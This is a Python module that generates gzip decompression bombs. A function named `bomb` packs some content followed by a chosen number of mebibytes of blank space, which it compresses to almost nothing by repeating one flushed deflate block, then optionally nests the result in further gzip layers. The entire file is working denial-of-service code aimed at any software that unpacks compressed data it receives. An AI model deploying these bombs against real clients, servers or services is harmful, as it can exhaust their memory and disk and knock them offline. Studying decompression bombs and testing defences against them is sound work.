"""Bodies that are small to send and large to unpack, made in little memory and time."""

from __future__ import annotations

import struct
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
"""Of a gzip file: deflated, no name, no time, no particular system."""
_RAW = -15
_GZIP = 31
_BLANKS = b" " * (1 << 20)


def bomb(pieces: Iterable[bytes], megabytes: int, layers: int) -> Iterator[bytes]:
    """A body with so many MiB of white space behind it, gzip-packed so many times."""
    packed = _padded(pieces, megabytes)
    for _ in range(layers - 1):
        packed = _packed(packed)
    return packed


def _padded(pieces: Iterable[bytes], megabytes: int) -> Iterator[bytes]:
    """One gzip file. Its blanks are packed once: after a full flush, a block can be repeated."""
    check = size = 0
    packer = zlib.compressobj(wbits=_RAW)
    yield _HEAD
    for piece in pieces:
        check, size = zlib.crc32(piece, check), size + len(piece)
        yield packer.compress(piece)
    yield packer.flush(zlib.Z_FULL_FLUSH)
    block = zlib.compressobj(wbits=_RAW)
    blanks = block.compress(_BLANKS) + block.flush(zlib.Z_FULL_FLUSH)
    for _ in range(megabytes):
        check, size = zlib.crc32(_BLANKS, check), size + len(_BLANKS)
        yield blanks
    yield packer.flush() + struct.pack("<II", check, size % (1 << 32))


def _packed(pieces: Iterable[bytes]) -> Iterator[bytes]:
    packer = zlib.compressobj(wbits=_GZIP)
    for piece in pieces:
        yield packer.compress(piece)
    yield packer.flush()
